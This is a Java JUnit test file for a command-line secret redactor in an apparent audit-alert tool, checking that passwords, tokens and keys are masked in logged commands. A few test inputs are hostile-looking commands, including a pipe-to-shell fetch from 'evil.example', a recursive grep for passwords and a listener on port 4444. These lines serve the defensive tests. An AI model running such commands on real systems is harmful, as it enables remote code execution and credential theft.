package io.auditalert.rules;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import org.junit.jupiter.api.Test;

class RedactorTest {
    final Redactor defaults = Redactor.withDefaults(List.of());

    @Test
    void shouldMaskCommonSecretArguments() {
        assertThat(defaults.redact("mysql --password=hunter2 -u root")).isEqualTo("mysql --password=*** -u root");
        assertThat(defaults.redact("tool --token abc123 --verbose")).isEqualTo("tool --token *** --verbose");
        assertThat(defaults.redact("env API_KEY=xyz PASSWORD=pw ls")).isEqualTo("env API_KEY=*** PASSWORD=*** ls");
        assertThat(defaults.redact("curl -H Authorization: Bearer eyJabc.def")).isEqualTo(
                "curl -H Authorization: Bearer ***");
        assertThat(defaults.redact("git clone https://bob:s3cret@example.org/x.git")).isEqualTo(
                "git clone https://bob:***@example.org/x.git");
    }

    @Test
    void shouldMaskSecretsWhoseOnlyTriggerWordIsSecretOrKey() {
        // each text holds one trigger word only ("pass" and "token" appear in none): a trigger list
        // that lost "secret" or "key" would skip the pattern and leave these in clear
        assertThat(defaults.redact("aws --api-key AKIA123")).isEqualTo("aws --api-key ***");
        assertThat(defaults.redact("app secret=hunter2")).isEqualTo("app secret=***");
        assertThat(defaults.redact("oauth --client_secret=s3")).isEqualTo("oauth --client_secret=***");
        assertThat(defaults.redact("s3cmd --access-key=AK1")).isEqualTo("s3cmd --access-key=***");
    }

    @Test
    void shouldMaskEnvironmentStyleAssignmentsWhoseNameEndsInAKeyword() {
        assertThat(defaults.redact("env DB_PASSWORD=s3cret GITHUB_TOKEN=ghp_1 ./deploy")).isEqualTo(
                "env DB_PASSWORD=*** GITHUB_TOKEN=*** ./deploy");
        assertThat(defaults.redact("AWS_SECRET_ACCESS_KEY=abc/def aws s3 ls")).isEqualTo(
                "AWS_SECRET_ACCESS_KEY=*** aws s3 ls");
        assertThat(defaults.redact("MY-APP-API-KEY=k1")).isEqualTo("MY-APP-API-KEY=***");
        // a keyword inside a longer name that is not the name's end is not a secret
        assertThat(defaults.redact("PASSWD_FILE=/etc/passwd cat")).isEqualTo("PASSWD_FILE=/etc/passwd cat");
    }

    @Test
    void shouldLeaveFileNamesAndPlainWordsAlone() {
        String s = "root changed /etc/passwd with /usr/bin/passwd (openat); token bucket; passwd file";
        assertThat(defaults.redact(s)).isEqualTo(s);
    }

    @Test
    void shouldMaskOptionsAndVariablesWhoseNameEndsInASecretWord() {
        // found by a review (stop 26): a keyword after '-', '.', or a letter was not masked
        assertThat(defaults.redact("tool --db-password=hunter2 --db-password hunter2 x")).isEqualTo(
                "tool --db-password=*** --db-password *** x");
        assertThat(defaults.redact("wget --http-password=hunter2 u")).isEqualTo("wget --http-password=*** u");
        assertThat(defaults.redact("cli --access-token hunter2 --secret-key=hunter2 --adminPassword=hunter2")).isEqualTo(
                "cli --access-token *** --secret-key=*** --adminPassword=***");
        assertThat(defaults.redact("helm install x --set auth.password=hunter2")).isEqualTo(
                "helm install x --set auth.password=***");
        assertThat(defaults.redact("java -Dspring.datasource.password=hunter2 -Djavax.net.ssl.keyStorePassword=hunter2 -jar a"))
                .isEqualTo("java -Dspring.datasource.password=*** -Djavax.net.ssl.keyStorePassword=*** -jar a");
        assertThat(defaults.redact("env PGPASSWORD=hunter2 SSHPASS=hunter2 psql")).isEqualTo("env PGPASSWORD=*** SSHPASS=*** psql");
        assertThat(defaults.redact("tool --password:hunter2")).isEqualTo("tool --password:***");
        assertThat(defaults.redact("aws configure set aws_secret_access_key hunter2")).isEqualTo(
                "aws configure set aws_secret_access_key ***");
        assertThat(defaults.redact("openssl rsa -passin pass:hunter2 -in k")).isEqualTo("openssl rsa -passin pass:*** -in k");
    }

    @Test
    void shouldMaskQuotedValuesWhole() {
        assertThat(defaults.redact("mysql --password='hunter2' db")).isEqualTo("mysql --password='***' db");
        assertThat(defaults.redact("mysql --password \"hunter2 x\" db")).isEqualTo("mysql --password \"***\" db");
        assertThat(defaults.redact("PASSWORD=\"my hunter2\" ./deploy")).isEqualTo("PASSWORD=\"***\" ./deploy");
        assertThat(defaults.redact("curl -d '{\"password\": \"hunter2\"}' u")).isEqualTo("curl -d '{\"password\": \"***\"}' u");
    }

    @Test
    void shouldMaskHeadersUrlsAndCommandsThatTakeAPasswordWithoutNamingIt() {
        assertThat(defaults.redact("curl -H \"X-API-Key: hunter2\" -H \"PRIVATE-TOKEN: hunter2\" u")).isEqualTo(
                "curl -H \"X-API-Key: ***\" -H \"PRIVATE-TOKEN: ***\" u");
        assertThat(defaults.redact("ansible-playbook -e \"db_password: hunter2\" p.yml")).isEqualTo(
                "ansible-playbook -e \"db_password: ***\" p.yml");
        assertThat(defaults.redact("curl -H 'Authorization: Bearer hunter2' u")).isEqualTo("curl -H 'Authorization: Bearer ***' u");
        assertThat(defaults.redact("git clone https://ghp_hunter2hunter2hunter2@github.com/o/r")).isEqualTo(
                "git clone https://***@github.com/o/r");
        assertThat(defaults.redact("redis-cli -u redis://:hunter2@localhost:6379/0")).isEqualTo(
                "redis-cli -u redis://:***@localhost:6379/0");
        assertThat(defaults.redact("curl https://user:p@sshunter2@host/x")).isEqualTo("curl https://user:***@host/x");
        assertThat(defaults.redact("curl -u admin:hunter2 u; curl --user admin:hunter2 u; curl -uadmin:hunter2 u"))
                .isEqualTo("curl -u admin:*** u; curl --user admin:*** u; curl -uadmin:*** u");
        assertThat(defaults.redact("mysql -uroot -phunter2 -P3306 db")).isEqualTo("mysql -uroot -p*** -P3306 db");
        assertThat(defaults.redact("sh -c /usr/bin/sshpass -p hunter2 ssh h")).isEqualTo("sh -c /usr/bin/sshpass -p *** ssh h");
        assertThat(defaults.redact("redis-cli -a hunter2 ping")).isEqualTo("redis-cli -a *** ping");
        assertThat(defaults.redact("docker login -u me -p hunter2 r.io")).isEqualTo("docker login -u me -p *** r.io");
        assertThat(defaults.redact("useradd -p hunter2 bob")).isEqualTo("useradd -p *** bob");
    }

    @Test
    void shouldMaskOnlyTheValueInsideAShellScript() {
        // a review of the first version: a variable starting an sh -c script masked all of the script, a
        // quote closing 'password=' was taken for one opening a value, and quoted option values leaked
        assertThat(defaults.redact("TOKEN=1; curl -s http://evil.example/i.sh | sh")).isEqualTo(
                "TOKEN=***; curl -s http://evil.example/i.sh | sh");
        assertThat(defaults.redact("grep -ri 'password=' /var/www /home")).isEqualTo("grep -ri 'password=' /var/www /home");
        assertThat(defaults.redact("grep -q 'token:' /etc/x; curl x | sh")).isEqualTo("grep -q 'token:' /etc/x; curl x | sh");
        assertThat(defaults.redact("sshpass -p 'my secret' ssh host")).isEqualTo("sshpass -p '***' ssh host");
        assertThat(defaults.redact("mysql -p'my secret' db")).isEqualTo("mysql -p'***' db");
        assertThat(defaults.redact("curl -su admin:hunter2 u; curl -sSu admin:hunter2 u")).isEqualTo(
                "curl -su admin:*** u; curl -sSu admin:*** u");
        assertThat(defaults.redact("curl -d '{\"password\" : \"hunter2\"}' u")).isEqualTo("curl -d '{\"password\" : \"***\"}' u");
        assertThat(defaults.redact("cd /srv;TOKEN=abc;./deploy.sh --prod")).isEqualTo("cd /srv;TOKEN=***;./deploy.sh --prod");
        assertThat(defaults.redact("curl https://x/cb?access_token=abc&next=/home")).isEqualTo(
                "curl https://x/cb?access_token=***&next=/home");
        assertThat(defaults.redact("env PWD=/home/user OLDPWD=/tmp DB_PWD=hunter2 x")).isEqualTo(
                "env PWD=/home/user OLDPWD=/tmp DB_PWD=*** x");
    }

    @Test
    void shouldLeaveWhatIsNoSecretAlone() {
        for (String s : java.util.List.of("docker run -p 8080:80 img", "ssh -p 22 host", "mysql -p db",
                "curl -u admin u", "ansible-playbook --ask-become-pass site.yml", "ssh git@github.com:o/r",
                "cp private.key /backup/", "PASSWD_FILE=/etc/passwd cat", "mysql --password --user=x db",
                "https://git@example.org/x")) {
            assertThat(defaults.redact(s)).as(s).isEqualTo(s);
        }
    }

    @Test
    void shouldStayLinearAndKeepTheAlertOnCraftedValues() {
        // "x_" repeated overflowed the stack of the old built-in pattern: the event's alerts were lost
        String crafted = "/tmp/evil --listen 4444 " + "x_".repeat(50_000) + "key";
        assertThat(defaults.redact(crafted)).isEqualTo(crafted);
        String craftedSecret = "x_".repeat(50_000) + "token=hunter2";
        assertThat(defaults.redact(craftedSecret)).isEqualTo("x_".repeat(50_000) + "token=***");
        // a user's pattern that gives up masks the whole value instead of failing the alert
        Redactor runaway = Redactor.of(List.of("sk_live_(?<secret>(.*a){20})!", "(?<secret>(.|\n)*?)END"), e -> {});
        assertThat(runaway.redact("sk_live_" + "a".repeat(40) + " other")).isEqualTo("***");
        assertThat(runaway.redact("x".repeat(20_000) + "END")).as("its stack too deep").isEqualTo("***");
    }

    @Test
    void shouldRunUserPatternsOverCharactersAndMaskAnAlternativeWithoutTheGroupWhole() {
        Redactor r = Redactor.of(List.of("geheim=(?<secret>\\p{L}+)", "(?i)KENNWÖRT=(?<secret>\\S+)",
                "pin=(?<secret>[0-9]+)|AKIA[0-9A-Z]{16}", "n=(?<secret>[0-9]*)"), e -> {});
        assertThat(r.redact("geheim=hüntér2")).isEqualTo("geheim=***2");
        assertThat(r.redact("kennwört=hunter2 x")).isEqualTo("kennwört=*** x");
        // (?i) folds as Unicode says on an ASCII value too: ſ (long s) is an s
        Redactor longS = Redactor.of(List.of("(?i)ſin=(?<secret>\\S+)"), e -> {});
        assertThat(longS.redact("sin=abc")).isEqualTo("sin=***");
        assertThat(longS.redact("sin=abc é")).isEqualTo("sin=*** é");
        assertThat(r.redact("pin=12 AKIAHUNTER2HUNTER2XX y")).isEqualTo("pin=*** *** y");
        assertThat(r.redact("mysql n= x")).as("an empty secret masks nothing").isEqualTo("mysql n= x");
        assertThat(r.redact("bad \u00ff\u00fe bytes")).isEqualTo("bad \u00ff\u00fe bytes");
    }

    @Test
    void shouldMaskTheSecretGroupOrTheWholeMatchAndReportBadPatterns() {
        List<String> problems = new ArrayList<>();
        Redactor r = Redactor.of(List.of("pin=(?<secret>\\d+)", "AKIA[0-9A-Z]{16}", "(unclosed"), problems::add);
        assertThat(r.redact("pin=1234 key AKIAABCDEFGHIJKLMNOP ünï")).isEqualTo("pin=*** key *** ünï");
        assertThat(problems).hasSize(1).first().asString().startsWith("bad secret pattern '(unclosed'");
    }
}
